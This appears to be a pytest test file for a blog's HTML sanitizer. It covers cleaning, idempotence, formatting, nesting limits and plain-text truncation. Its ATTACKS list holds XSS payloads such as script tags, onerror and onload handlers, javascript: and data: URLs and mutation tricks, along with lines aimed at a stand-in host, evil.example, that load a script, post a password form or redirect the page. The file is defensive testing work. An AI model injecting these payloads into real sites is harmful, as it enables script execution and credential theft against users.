"""groundup.blog.markup: what of a stranger's HTML is shown, and that nothing else ever is."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from groundup.blog.markup import ALLOWED, MAX_DEPTH, VOID, clean_html, plain_text

TAG = re.compile(r"</?([a-z0-9]+)([^>]*)>")
LINK = re.compile(r' href="([^"<>]*)" rel="nofollow ugc noopener"')


class Reader(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


def assert_harmless(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    for tag, attrs in reader.seen:
        assert tag in ALLOWED | VOID
        assert {name for name, _ in attrs} <= ({"href", "rel"} if tag == "a" else set())
        for name, value in attrs:
            if name == "href":
                scheme = (value or "").partition(":")[0].lower() if ":" in (value or "") else ""
                assert scheme.partition("/")[0] in {"", "http", "https", "mailto"} or "/" in scheme
    for match in TAG.finditer(html):
        assert match[2] == "" or LINK.fullmatch(match[2])


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="x" onmouseover="alert(1)">x</a>',
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></p><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<b <script>alert(1)</script>>x</b>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    '<a href="x"><a href="y" onclick=z>',
    "</p></div><script>alert(1)</script>",
    "<form action=//evil.example><input name=password>",
    '<base href="//evil.example">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
]


@pytest.mark.parametrize("source", ATTACKS)
def test_attacks_come_out_harmless(source: str) -> None:
    html = clean_html(source)

    assert_harmless(html)
    assert "alert(1)>" not in html.lower()
    assert "onerror=alert(1)>" not in html


@given(st.text(alphabet="<>/=\"'&;:ascripthefonld \n!-[]", max_size=80))
@settings(max_examples=300, deadline=None)
def test_no_text_comes_out_with_more_than_the_table_allows(source: str) -> None:
    assert_harmless(clean_html(source))


@given(st.text(max_size=200))
@settings(max_examples=200, deadline=None)
def test_what_is_clean_stays_as_it_is(source: str) -> None:
    once = clean_html(f"<p>{source}</p>")

    assert clean_html(once) == once


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("one\r\n\r\ntwo", "<p>one</p>\n<p>two</p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("<h2>Title</h2><p>x<br/>y</p>", "<h2>Title</h2><p>x<br>y</p>"),
        ("<p>open <b>bold", "<p>open <b>bold</b></p>"),
        ("<p><b>x</p></b>", "<p><b>x</b></p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a<li>b</li></li></ul>"),
        ("<p>&lt;script&gt;</p>", "<p>&lt;script&gt;</p>"),
        ("<p>a\0b</p>", "<p>ab</p>"),
        ('<a href="mailto:a@b.c">m</a>', None),
        ('<a href="/posts/1?a=1&amp;b=2">m</a>', None),
    ],
)
def test_formatting_stays(source: str, html: str | None) -> None:
    cleaned = clean_html(source)

    if html is None:
        assert cleaned.startswith('<p><a href="')
    else:
        assert cleaned == html


def test_nesting_has_an_end() -> None:
    html = clean_html("<blockquote>" * (MAX_DEPTH + 10))

    assert html.count("<blockquote>") == MAX_DEPTH == html.count("</blockquote>")


def test_many_tags_take_linear_time() -> None:
    assert clean_html("<p><b>x</b></p>" * 20_000).count("<b>") == 20_000


@pytest.mark.parametrize(
    ("html", "limit", "text"),
    [
        ("<p>short</p>", 100, "short"),
        ("<p>a&amp;b</p> <p>c</p>", 100, "a&b c"),
        ("<p>one two three</p>", 9, "one two…"),
        ("<p>word</p>", 4, "word"),
        ("<p>words</p>", 4, "word…"),
        ("", 10, ""),
    ],
)
def test_the_beginning_is_cut_between_words(html: str, limit: int, text: str) -> None:
    assert plain_text(html, limit) == text


@pytest.mark.parametrize(
    "source", ["<![", "<![CDATA[x]]>", "a<![if b]>c<![endif]>", "<!doctype", "<!"]
)
def test_declarations_of_other_languages_are_comments(source: str) -> None:
    cleaned = clean_html(source)

    assert "<!" not in cleaned
    assert clean_html(cleaned) == cleaned
